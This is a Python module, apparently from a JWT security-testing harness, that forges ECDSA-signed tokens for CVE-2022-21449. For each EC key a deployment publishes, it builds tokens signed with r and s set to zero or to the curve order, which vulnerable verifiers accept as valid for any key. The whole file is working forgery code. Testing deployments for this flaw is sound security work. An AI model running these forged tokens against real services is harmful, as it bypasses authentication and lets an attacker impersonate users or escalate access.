"""ECDSA signatures that fit every key and every token (CVE-2022-21449).

A verifier has to look whether r and s are within their range.
With r and s zero, or the order of the curve, which is zero modulo itself, the equation may hold for every key.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from cryptography.hazmat.primitives.asymmetric import ec

from harness.core.errors import Absent
from harness.tokens.jws import Json, Jwt, Written, encode_segment

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

_CURVES: dict[str, tuple[str, ec.EllipticCurve]] = {
    "P-256": ("ES256", ec.SECP256R1()),
    "P-384": ("ES384", ec.SECP384R1()),
    "P-521": ("ES512", ec.SECP521R1()),
    "secp256k1": ("ES256K", ec.SECP256K1()),
}
"""The algorithm of each curve (RFC 7518 section 3.4, RFC 8812 section 3.2)."""


def zeros(token: Jwt, keys: Sequence[Json]) -> list[str]:
    """Under a signature whose r and s are zero."""
    return _signed(token, keys, lambda _: 0)


def orders(token: Jwt, keys: Sequence[Json]) -> list[str]:
    """Under a signature of the order of the curve, twice."""
    return _signed(token, keys, lambda curve: curve.group_order)


def _signed(token: Jwt, keys: Sequence[Json], number: Callable[[ec.EllipticCurve], int]) -> list[str]:
    forged: dict[str, None] = {}
    for algorithm, curve, kid in _verifiers(token, keys):
        half = number(curve).to_bytes((curve.key_size + 7) // 8)
        written = Written(encode_segment(half + half))
        made = token.with_header(alg=algorithm, kid=kid).compact(written.segment, written)
        forged[made] = None
    if not forged:
        raise Absent(f"The deployment signs with {token.algorithm} and publishes no key for ECDSA.")
    return [*forged]


def _verifiers(token: Jwt, keys: Sequence[Json]) -> Iterator[tuple[str, ec.EllipticCurve, object]]:
    """Algorithm, curve and key id of each ECDSA key."""
    own = token.header.get("kid")
    for algorithm, curve in _CURVES.values():
        if algorithm == token.algorithm:
            yield algorithm, curve, own
    for key in keys:
        if key.get("kty") == "EC" and key.get("use", "sig") == "sig" and str(key.get("crv")) in _CURVES:
            yield *_CURVES[str(key["crv"])], key.get("kid")
